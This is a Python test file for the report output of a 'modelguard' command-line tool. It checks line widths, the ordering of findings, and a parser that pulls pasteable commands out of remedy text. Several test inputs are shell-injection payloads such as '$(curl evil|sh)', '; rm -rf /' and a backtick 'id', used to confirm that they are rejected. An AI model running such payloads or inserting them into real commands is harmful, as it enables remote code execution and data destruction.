"""The terminal's report: 80 columns whatever things are called, the widest first, commands that can be pasted."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from gitlib import git
from hypothesis import given
from hypothesis import strategies as st
from reportlib import SNAPSHOTS, run

from modelguard.report.words import remedy, safe


@pytest.mark.parametrize("path", sorted(SNAPSHOTS.glob("check-*.txt")), ids=lambda p: p.name)
def test_no_line_of_the_example_is_longer_than_80(path: Path) -> None:
    assert [line for line in path.read_text("utf-8").split("\n") if len(line) > 80] == []


def big(folder: Path, many: int) -> Path:
    """A field with many readers whose names are long; then it moves."""
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    (folder / "config.yaml").write_text("model: gpt-4o-mini\n")
    code = "import openai, yaml\nM = yaml.safe_load(open('config.yaml'))['model']\n"
    code += "openai.OpenAI().chat.completions.create(model=M)\n"
    for number in range(many):
        (folder / f"a_job_with_a_rather_long_name_that_goes_on_{number:03}.py").write_text(code)
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "one")
    (folder / "config.yaml").write_text("model: gpt-4o\n")
    return folder


def test_many_readers_with_long_names(tmp_path: Path) -> None:
    text = run("check", big(tmp_path / "repo", 75), "--base", "main").output
    table = text[text.index("read by") : text.index("how each gets it")]
    assert max(len(line) for line in table.split("\n")) <= 80
    assert table.count("none ✗") == 60
    assert "and 15 more: --format json lists all of them" in table
    assert "and 55 more: modelguard graph --why CONSUMER model" in text
    assert "FAIL" in text.split("\n")[0]


def test_the_widest_finding_comes_first(iceberg: Path, tmp_path: Path) -> None:
    text = (SNAPSHOTS / "check-main.txt").read_text("utf-8")
    assert text.index("MG201") < text.index("MG101") < text.index("MG203")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("split it: modelguard split llm.model", ("split it:", "modelguard split llm.model")),
        ("modelguard rotate x --to per-consumer", ("", "modelguard rotate x --to per-consumer")),
        ("see the docs (modelguard explain MG1)", ("see the docs (modelguard explain MG1)", "")),
        ("nothing to run", ("nothing to run", "")),
        ("split it: modelguard split $(curl evil|sh)", ("split it", "")),
        ("split it: modelguard split a; rm -rf /", ("split it", "")),
        ("split it: modelguard split `id`", ("split it", "")),
        ("split it: modelguard split a\nrm", ("split it: modelguard split a\nrm", "")),
    ],
)
def test_remedies(text: str, expected: tuple[str, str]) -> None:
    assert remedy(text) == expected


@given(st.text(max_size=40))
def test_a_command_is_words_to_a_shell(name: str) -> None:
    _, command = remedy(f"do it: modelguard split {name}")
    assert not command or shlex.split(command)[:2] == ["modelguard", "split"]
    assert not set(command) & set("$`;|&<>()\n\\\"'*?[]{}!#~")
    assert shlex.split(f"modelguard split {shlex.quote(safe(name))}")[2:] == [safe(name)]
